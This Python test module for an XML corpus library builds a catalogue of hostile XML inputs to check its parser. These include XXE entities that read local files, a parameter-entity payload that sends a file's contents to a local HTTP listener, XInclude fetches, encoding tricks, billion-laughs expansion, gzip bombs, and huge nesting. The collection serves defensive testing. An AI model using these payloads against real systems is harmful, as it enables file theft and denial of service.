"""XML that others have hung or opened up with, as names and functions that build the documents.

Most are built into a sound document of kzcorpus, so that they reach past its door.
"""

import bz2
import gzip
import io
import lzma
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import NamedTuple

from kzcorpus.formats.tei.writer import dumps
from kzcorpus.model.agents import Actor
from kzcorpus.model.articles import Article, Block, Mention
from kzcorpus.model.authorities import Authority
from kzcorpus.model.corpus import Corpus
from kzcorpus.model.dates import When
from kzcorpus.model.names import Name
from kzcorpus.model.provenance import Made
from kzcorpus.model.spans import Span
from kzcorpus.model.statements import Statement, Voice

SECRET = "kzcorpus-canary-5f0c2a"  # noqa: S105 -- a word to look for
"""What stands in the files that no document may open."""


class Attack(NamedTuple):
    """A document that is meant to do harm; ``harmless`` is one that is to be read all the same, ``partly`` one
    whose articles are right, each by itself.
    """

    name: str
    build: Callable[[float], bytes]
    harmless: bool = False
    partly: bool = False
    suffix: str = ".xml"


def _sound(text: str = "Talks end.\n“They went well,” he said.") -> bytes:
    end = len(text)
    said = Statement(
        "a1.s1",
        (Span(1, 5),),
        "direct",
        Voice("tok", span=Span(0, 2)),
        (Span(2, 4),),
        said=When("2022-10-14"),
        made=Made("me", confidence=0.5),
    )
    article = Article(
        "a1", text, blocks=(Block(Span(0, end), "paragraph"),), mentions=(Mention(Span(0, 2), "person", "tok"),), statements=(said,)
    )
    return dumps(Corpus("c", articles=(article,), authority=Authority((Actor("tok", (Name("Tok"),)),))))


SOUND = _sound()
_ROOT = b"<teiCorpus "


def _before_root(words: bytes, change: tuple[bytes, bytes] | None = None) -> bytes:
    document = SOUND.replace(_ROOT, words + _ROOT, 1)
    if change:
        assert change[0] in document, change
        document = document.replace(*change, 1)
    return document


def _put(old: bytes, new: bytes, *, document: bytes = SOUND) -> bytes:
    assert old in document, old
    return document.replace(old, new, 1)


_NAME, _BODY, _REGISTER = b"<persName>Tok", b'<div type="article"><p>', b'<standOff type="register">'
_TEXT = b"lks end."
_END = b"</teiCorpus>"


def _in_name(words: bytes) -> bytes:
    return _put(_NAME, _NAME + words)


def _laughs(count: int, *, parameter: bool = False) -> bytes:
    mark = b"% " if parameter else b""
    sign = b"&#37;" if parameter else b"&"
    lines = [b'<!ENTITY %sl0 "ha">' % mark]
    lines += [b'<!ENTITY %sl%d "%s">' % (mark, level, b"%sl%d;" % (sign, level - 1) * 10) for level in range(1, count)]
    return b"<!DOCTYPE teiCorpus [" + b"".join(lines) + b"]>"


def _many(unit: bytes, count: float, joint: bytes = b"") -> bytes:
    return joint.join([unit] * max(1, int(count)))


def _numbered(pattern: bytes, count: float) -> bytes:
    return b"".join([pattern.replace(b"@", b"%d" % number) for number in range(max(2, int(count)))])


def _zipped(document: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("c.xml", document)
    return out.getvalue()


def _chained(count: float, *, closed: bool) -> bytes:
    """Return statements each within the one before; the first within the last where the chain is closed."""
    one = b'<event type="statement" xml:id="x@"><label/><ptr type="content" target="#string-range(a1.text,0,1)"/>%s</event>'
    size = max(3, int(count))
    ends = [b'<ptr type="within" target="#x%d"/>' % ((number - 1) % size) if closed or number else b"" for number in range(size)]
    events = b"\n".join([(one % ends[number]).replace(b"@", b"%d" % number) for number in range(size)])
    return _put(b'<listEvent type="statements">', b'<listEvent type="statements">\n' + events)


def _external(folder: Path, port: int) -> list[Attack]:
    """Return the attacks that want a file or a socket."""
    file = f"file://{folder}/secret.txt".encode()
    dtd = f"file://{folder}/secret.dtd".encode()
    http = f"http://127.0.0.1:{port}/x".encode()
    use = (_NAME, _NAME + b"&x;")
    include = b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="%s" %s'

    def entity(where: bytes) -> bytes:
        return b'<!DOCTYPE teiCorpus [<!ENTITY x SYSTEM "%s">]>' % where

    def parameter(where: bytes) -> bytes:
        return b'<!DOCTYPE teiCorpus [<!ENTITY %% p SYSTEM "%s"> %%p;]>' % where

    def schema_location(where: bytes) -> bytes:
        names = b'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://www.tei-c.org/ns/1.0 %s" '
        return SOUND.replace(_ROOT, _ROOT + names % where)

    return [
        Attack("entity of a file", lambda _: _before_root(entity(file), use)),
        Attack("entity of a relative file", lambda _: _before_root(entity(b"secret.txt"), use)),
        Attack("entity of a socket", lambda _: _before_root(entity(http), use)),
        Attack("entity by ftp", lambda _: _before_root(entity(http.replace(b"http", b"ftp")), use)),
        Attack("entity of a device", lambda _: _before_root(entity(b"/dev/zero"), use)),
        Attack("entity in an attribute", lambda _: _before_root(entity(file), (b'"identifying"', b'"&x;"'))),
        Attack("entity that is not used", lambda _: _before_root(entity(file))),
        Attack("parameter entity of a file", lambda _: _before_root(parameter(dtd), use)),
        Attack("parameter entity of a socket", lambda _: _before_root(parameter(http), use)),
        Attack(
            "parameter entity that sends a file away",
            lambda _: _before_root(
                b'<!DOCTYPE teiCorpus [<!ENTITY %% f SYSTEM "%s"><!ENTITY %% e "<!ENTITY &#37; s SYSTEM \'%s?%%f;\'>">%%e;%%s;]>'
                % (file, http)
            ),
        ),
        Attack("external DTD of a file", lambda _: _before_root(b'<!DOCTYPE teiCorpus SYSTEM "%s">' % dtd, (_NAME, _NAME + b"&secret;"))),
        Attack("external DTD of a socket", lambda _: _before_root(b'<!DOCTYPE teiCorpus SYSTEM "%s">' % http)),
        Attack("public DTD", lambda _: _before_root(b'<!DOCTYPE teiCorpus PUBLIC "-//TEI P4//DTD Main//EN" "%s">' % http)),
        Attack(
            "unparsed entity",
            lambda _: _before_root(b'<!DOCTYPE c [<!NOTATION n SYSTEM "%s"><!ENTITY x SYSTEM "%s" NDATA n>]>' % (http, file)),
        ),
        Attack("default attributes", lambda _: _before_root(b'<!DOCTYPE c [<!ATTLIST persName ref CDATA "%s">]>' % file)),
        Attack("XInclude of XML", lambda _: _put(_BODY, _BODY + include % (dtd, b"/>"))),
        Attack("XInclude of text", lambda _: _in_name(include % (file, b'parse="text"/>'))),
        Attack("XInclude of a socket", lambda _: _in_name(include % (http, b'parse="text"/>'))),
        Attack("XInclude with a fallback", lambda _: _in_name(include % (http, b"><xi:fallback>x</xi:fallback></xi:include>"))),
        Attack("XInclude of itself", lambda _: _put(_END, include % (b"", b'xpointer="/1"/>') + _END)),
        Attack("xml-stylesheet", lambda _: _before_root(b'<?xml-stylesheet type="text/xsl" href="%s"?>' % http), harmless=True),
        Attack("xml-model", lambda _: _before_root(b'<?xml-model href="%s"?>' % http), harmless=True),
        Attack("schema location", lambda _: schema_location(http)),
        Attack("base", lambda _: SOUND.replace(_ROOT, _ROOT + b'xml:base="%s" ' % http)),
        Attack("schemaRef to a file", lambda _: _put(b"urn:kzcorpus:profile:1", file)),
        Attack("pointer to a socket", lambda _: _put(b'corresp="#tok"', b'corresp="%s#tok"' % http)),
    ]


def _encoded() -> list[Attack]:
    """Return the attacks that hide in an encoding."""
    doctype = _before_root(b'<!DOCTYPE teiCorpus [<!ENTITY x "y">]>', (_NAME, _NAME + b"&x;")).decode()
    bare = doctype.partition("?>")[2]

    def declared(name: str) -> str:
        return f'<?xml version="1.0" encoding="{name}"?>{bare}'

    utf_7 = bare.replace("<", "+ADw-").replace(">", "+AD4-").replace("&", "+ACY-").encode()
    return [
        Attack("DOCTYPE in UTF-16 LE", lambda _: declared("UTF-16").encode("utf-16")),
        Attack("DOCTYPE in UTF-16 BE", lambda _: b"\xfe\xff" + declared("UTF-16").encode("utf-16-be")),
        Attack("DOCTYPE in UTF-16 LE without a mark", lambda _: declared("UTF-16LE").encode("utf-16-le")),
        Attack("DOCTYPE in UTF-16 BE without a mark", lambda _: declared("UTF-16BE").encode("utf-16-be")),
        Attack("DOCTYPE in UTF-16 that says UTF-8", lambda _: declared("UTF-8").encode("utf-16")),
        Attack("DOCTYPE in UTF-8 that says UTF-16", lambda _: declared("UTF-16").encode()),
        Attack("DOCTYPE in UTF-32 LE", lambda _: declared("UTF-32").encode("utf-32")),
        Attack("DOCTYPE in UTF-32 BE", lambda _: b"\0\0\xfe\xff" + declared("UTF-32").encode("utf-32-be")),
        Attack("DOCTYPE in UTF-7", lambda _: b'<?xml version="1.0" encoding="UTF-7"?>' + utf_7),
        Attack("DOCTYPE in UTF-7 by its mark", lambda _: b"+/v8-" + utf_7),
        Attack("DOCTYPE in EBCDIC", lambda _: declared("cp037").encode("cp037", "replace")),
        Attack("DOCTYPE after a UTF-8 mark", lambda _: b"\xef\xbb\xbf" + doctype.encode()),
        Attack("DOCTYPE after two marks", lambda _: b"\xef\xbb\xbf\xef\xbb\xbf" + doctype.encode()),
        Attack("DOCTYPE in Latin-1", lambda _: declared("ISO-8859-1").encode("latin-1", "replace")),
        Attack("DOCTYPE in Shift-JIS", lambda _: declared("Shift_JIS").encode("shift-jis", "replace")),
        Attack("an encoding nobody knows", lambda _: declared("x-kz").encode()),
        Attack("an encoding of a megabyte", lambda scale: declared("x" * int(10**6 * scale)).encode()),
        Attack("DOCTYPE in lower case", lambda _: doctype.replace("<!DOCTYPE", "<!doctype").encode()),
        Attack("overlong UTF-8", lambda _: _put(_TEXT, b"\xc0\xbc!DOCTYPE")),
        Attack("surrogates in UTF-8", lambda _: _put(_TEXT, b"\xed\xa0\x80")),
        Attack("NUL", lambda _: _put(_TEXT, b"Talks\0end.")),
    ]


def _growing() -> list[Attack]:
    """Return the attacks that grow."""
    use = (_NAME, _NAME + b"&l9;")
    big = b"x" * 100_000
    return [
        Attack("billion laughs", lambda _: _before_root(_laughs(10), use)),
        Attack("billion laughs in an attribute", lambda _: _before_root(_laughs(10), (b'"identifying"', b'"&l9;"'))),
        Attack("billion laughs of parameters", lambda _: _before_root(_laughs(10, parameter=True))),
        Attack(
            "quadratic blow-up",
            lambda scale: _before_root(b'<!DOCTYPE c [<!ENTITY l9 "%s">]>' % big, (_NAME, _NAME + _many(b"&l9;", 10**5 * scale))),
        ),
        Attack("an entity of itself", lambda _: _before_root(b'<!DOCTYPE c [<!ENTITY l9 "&l8;"><!ENTITY l8 "&l9;">]>', use)),
        Attack("100,000 entities", lambda scale: _before_root(b"<!DOCTYPE c [%s]>" % _numbered(b'<!ENTITY e@ "x">', 10**5 * scale))),
        Attack("an undeclared entity", lambda _: _in_name(b"&x;")),
        Attack("a million undeclared entities", lambda scale: _in_name(_many(b"&x;", 10**6 * scale))),
        Attack("DOCTYPE after 10 MB of comments", lambda scale: _before_root(_many(b"<!--x-->", 1.25 * 10**6 * scale) + b"<!DOCTYPE c>")),
        Attack("DOCTYPE after 10 MB of instructions", lambda scale: _before_root(_many(b"<?x?>", 2 * 10**6 * scale) + b"<!DOCTYPE c>")),
        Attack("DOCTYPE after 10 MB of lines", lambda scale: _before_root(_many(b"\n", 10**7 * scale) + b"<!DOCTYPE c>")),
        Attack("DOCTYPE that does not end", lambda scale: _before_root(b"<!DOCTYPE c [" + _many(b"<!ENTITY", 10**6 * scale))),
        Attack("comment that does not end", lambda scale: _before_root(b"<!--" + _many(b"- ", 5 * 10**6 * scale))),
        Attack("instruction that does not end", lambda scale: _before_root(b"<?x" + _many(b"? ", 5 * 10**6 * scale))),
        Attack("a million openings of comments", lambda scale: _before_root(_many(b"<!--", 10**6 * scale))),
        Attack("5 million references to characters", lambda scale: _in_name(_many(b"&#65;", 5 * 10**6 * scale))),
        Attack("a reference to a character of a million digits", lambda scale: _in_name(b"&#%s;" % _many(b"0", 10**6 * scale))),
        Attack("gzip", lambda scale: gzip.compress(_put(_TEXT, b"x" * int(50 * 10**6 * scale) + b"y"))),
        Attack("gzip called .xml.gz", lambda _: gzip.compress(SOUND), suffix=".gz"),
        Attack("gzip of gzip", lambda scale: gzip.compress(gzip.compress(b" " * int(10**7 * scale)))),
        Attack("half a gzip", lambda _: gzip.compress(SOUND)[:400]),
        Attack("bzip2", lambda _: bz2.compress(SOUND)),
        Attack("xz", lambda _: lzma.compress(SOUND)),
        Attack("zip", lambda _: _zipped(SOUND)),
    ]


def _deep() -> list[Attack]:
    """Return the attacks by depth, width and number."""

    def nested(name: bytes, count: float) -> bytes:
        return _many(b"<%s>" % name, count) + _many(b"</%s>" % name, count)

    return [
        Attack("depth 100,000 in the text", lambda scale: _put(_BODY, _BODY + nested(b"hi", 10**5 * scale + 2100))),
        Attack("depth 100,000 around the root", lambda scale: nested(b"a", 10**5 * scale)),
        Attack("depth 100,000 not closed", lambda scale: _put(_BODY, _BODY + _many(b"<hi>", 10**5 * scale + 2100))),
        Attack("depth 100,000 in standOff", lambda scale: _put(_REGISTER, _REGISTER + nested(b"listPerson", 10**5 * scale + 2100))),
        Attack("depth 2,000 in the text", lambda _: _put(_BODY, _BODY + nested(b"hi", 2000))),
        Attack("depth 240 in the text", lambda _: _put(_BODY, _BODY + nested(b"hi", 240))),
        Attack("depth of articles", lambda scale: _put(_END, nested(b"TEI", 10**5 * scale + 2100) + _END)),
        Attack("depth of corpora", lambda scale: _put(_END, nested(b"teiCorpus", 10**5 * scale + 2100) + _END)),
        Attack("a million siblings", lambda scale: _put(_END, _many(b"<a/>", 10**6 * scale) + _END)),
        Attack("a million siblings in the text", lambda scale: _put(_BODY, _BODY + _many(b"<hi/>", 10**6 * scale))),
        Attack("a million siblings in a register", lambda scale: _put(_NAME, _many(b"<persName/>", 10**6 * scale) + _NAME)),
        Attack(
            "a million blocks", lambda scale: _put(b'<div type="article">', b'<div type="article">' + _many(b"<p>x</p>", 10**6 * scale))
        ),
        Attack("200,000 bogus articles", lambda scale: _put(_END, _many(b"<TEI/>", 2 * 10**5 * scale) + _END)),
        Attack("a million bogus articles", lambda scale: _put(_END, _many(b"<TEI/>", 10**6 * scale) + _END)),
        Attack(
            "1,000 articles repeated",
            lambda scale: SOUND.replace(_END, _many(SOUND[SOUND.index(b"<TEI ") : SOUND.index(_END)], 10**3 * scale) + _END),
            partly=True,
        ),
        Attack("100,000 attributes", lambda scale: _put(b"<persName>", b"<persName %s>" % _numbered(b' a@="x"', 10**5 * scale))),
        Attack("100,000 attributes on the root", lambda scale: _put(_ROOT, _ROOT + _numbered(b'a@="x" ', 10**5 * scale))),
        Attack("the same attribute 100,000 times", lambda scale: _put(b"<persName>", b"<persName%s>" % _many(b' n="x"', 10**5 * scale))),
        Attack(
            "90 attributes on 2,000 elements",
            lambda scale: _put(_NAME, _many(b"<persName %s/>" % _numbered(b' a@="x"', 90), 2 * 10**3 * scale) + _NAME),
        ),
        Attack("100,000 ids", lambda scale: _put(_END, _numbered(b'<a xml:id="i@"/>', 10**5 * scale) + _END)),
        Attack("one id 100,000 times", lambda scale: _put(_END, _many(b'<a xml:id="i"/>', 10**5 * scale) + _END)),
        Attack(
            "one id 100,000 times in the register",
            lambda scale: _put(b"<listPerson>", b"<listPerson>" + _many(b'<person xml:id="i"/>', 10**5 * scale)),
        ),
        Attack(
            "100,000 people",
            lambda scale: _put(b"<listPerson>", b"<listPerson>\n" + _numbered(b'<person xml:id="i@"/>\n', 10**5 * scale)),
            harmless=True,
        ),
        Attack(
            "100,000 pointers to nowhere",
            lambda scale: _put(
                b'<ptr type="content"', _numbered(b'<ptr type="within" target="#i@"/>', 10**5 * scale) + b'<ptr type="content"'
            ),
        ),
        Attack(
            "100,000 namespaces",
            lambda scale: _put(b"<persName>", b"<persName %s>" % _numbered(b' xmlns:n@="urn:@"', 10**5 * scale)),
            harmless=True,
        ),
        Attack("100,000 namespaces on the root", lambda scale: _put(_ROOT, _ROOT + _numbered(b'xmlns:n@="urn:@" ', 10**5 * scale))),
        Attack(
            "100,000 elements of their own namespaces", lambda scale: _put(_END, _numbered(b'<n:a xmlns:n="urn:@"/>', 10**5 * scale) + _END)
        ),
        Attack(
            "2,000 namespaces one in another",
            lambda _: _put(_BODY, _BODY + _numbered(b'<hi xmlns:n@="urn:@">', 2000) + _many(b"</hi>", 2000)),
        ),
        Attack("a prefix that nothing binds", lambda _: _put(_NAME, b"<x:y/>" + _NAME)),
    ]


def _long() -> list[Attack]:
    """Return the attacks by length."""
    fifty = 50 * 10**6
    return [
        Attack("50 MB of text", lambda scale: _put(_TEXT, b"x" * int(fifty * scale))),
        Attack("50 MB of a name", lambda scale: _in_name(b"x" * int(fifty * scale))),
        Attack("50 MB of a foreign text", lambda scale: b"<TEI>%s</TEI>" % (b"x" * int(fifty * scale))),
        Attack("50 MB of a text between elements", lambda scale: _put(_REGISTER, _REGISTER + b"x" * int(fifty * scale))),
        Attack("50 MB of white space", lambda scale: _put(_REGISTER, _REGISTER + b" " * int(fifty * scale))),
        Attack("50 MB of lines", lambda scale: _put(_REGISTER, _REGISTER + b"\n" * int(fifty * scale))),
        Attack("50 MB of an attribute", lambda scale: _put(b"<persName>", b'<persName n="%s">' % (b"x" * int(fifty * scale)))),
        Attack("50 MB of an id", lambda scale: _put(b'xml:id="tok"', b'xml:id="%s"' % (b"x" * int(fifty * scale)))),
        Attack("10 MB of a mapped id", lambda scale: _put(b'xml:id="tok"', b'xml:id="%s"' % (b"_2E_" * int(fifty / 20 * scale)))),
        Attack("50 MB of a pointer", lambda scale: _put(b'corresp="#tok"', b'corresp="#%s"' % (b"x" * int(fifty * scale)))),
        Attack(
            "a million pointers in one attribute",
            lambda scale: _put(b' ana="#_mode.direct', b' ana="%s#_mode.direct' % _many(b"#_mode.direct ", 10**6 * scale)),
        ),
        Attack(
            "a million different pointers in one attribute",
            lambda scale: _put(b' ana="#_mode.direct', b' ana="%s #_mode.direct' % _numbered(b" #x@", 10**6 * scale)),
        ),
        Attack("a million ranges", lambda scale: _put(b"a1.text,1,4)", b"a1.text,1,4%s)" % _many(b",0,1", 10**6 * scale))),
        Attack("a range of a million digits", lambda scale: _put(b"a1.text,1,4)", b"a1.text,1,%s)" % _many(b"4", 10**6 * scale + 5000))),
        Attack("a length of 5,000 digits", lambda _: _put(b'quantity="', b'quantity="' + b"9" * 5000)),
        Attack("a number of a million digits", lambda scale: _put(b'value="0.5', b'value="0.5%s' % _many(b"9", 10**6 * scale))),
        Attack(
            "a date of 10 MB", lambda scale: _put(b'when-custom="2022-10-14"', b'when-custom="%s"' % _many(b"2022-", 2 * 10**6 * scale))
        ),
        Attack(
            "a language of 10 MB", lambda scale: _put(b"<persName>", b'<persName xml:lang="en%s">' % _many(b"-abc", 2.5 * 10**6 * scale))
        ),
        Attack("10 MB of a name of an element", lambda scale: _put(_BODY, _BODY + b"<%s/>" % _many(b"x", 10**7 * scale))),
        Attack("10 MB of a name of an attribute", lambda scale: _put(b"<persName>", b'<persName %s="1">' % _many(b"x", 10**7 * scale))),
        Attack("10 MB of a namespace", lambda scale: _put(b"<persName>", b'<persName xmlns="urn:%s">' % _many(b"x", 10**7 * scale))),
        Attack("50 MB of a comment", lambda scale: _put(_BODY, _BODY + b"<!--%s-->" % (b"x" * int(fifty * scale)))),
        Attack("50 MB of an instruction", lambda scale: _put(_BODY, _BODY + b"<?x %s?>" % (b"x" * int(fifty * scale)))),
        Attack("50 MB of CDATA", lambda scale: _put(_BODY, _BODY + b"<![CDATA[%s]]>" % (b"x" * int(fifty * scale)))),
        Attack("a million CDATA sections", lambda scale: _put(_BODY, _BODY + _many(b"<![CDATA[x]]>", 10**6 * scale))),
        Attack("a start tag that does not end", lambda scale: _put(_BODY, _BODY[:-1] + b" " + b"x" * int(fifty * scale))),
        Attack("a quotation mark that does not end", lambda scale: _put(_BODY, _BODY[:-1] + b' n="' + b"x" * int(fifty * scale))),
        Attack("100,000 statements one in another", lambda scale: _chained(10**5 * scale, closed=False)),
        Attack("100,000 statements in a circle", lambda scale: _chained(10**5 * scale, closed=True)),
        Attack(
            "100,000 wrong ranges",
            lambda scale: _put(
                b"</annotation>",
                b"</annotation>"
                + _numbered(
                    b'<annotation xml:id="a1.m@" motivation="identifying" target="#string-range(a1.text,900,1)" ana="#_mention.person"/>',
                    10**5 * scale,
                ),
            ),
        ),
        Attack(
            "a million characters that XML cannot hold", lambda scale: _in_name(_many(b'<g ref="char:0000">&#xFFFD;</g>', 10**6 * scale))
        ),
    ]


def attacks(folder: Path, port: int) -> list[Attack]:
    """Return every attack; ``folder`` holds the files to be left alone, ``port`` is listened on."""
    sound = Attack("sound", lambda _: SOUND, harmless=True)
    return [sound, *_external(folder, port), *_encoded(), *_growing(), *_deep(), *_long()]
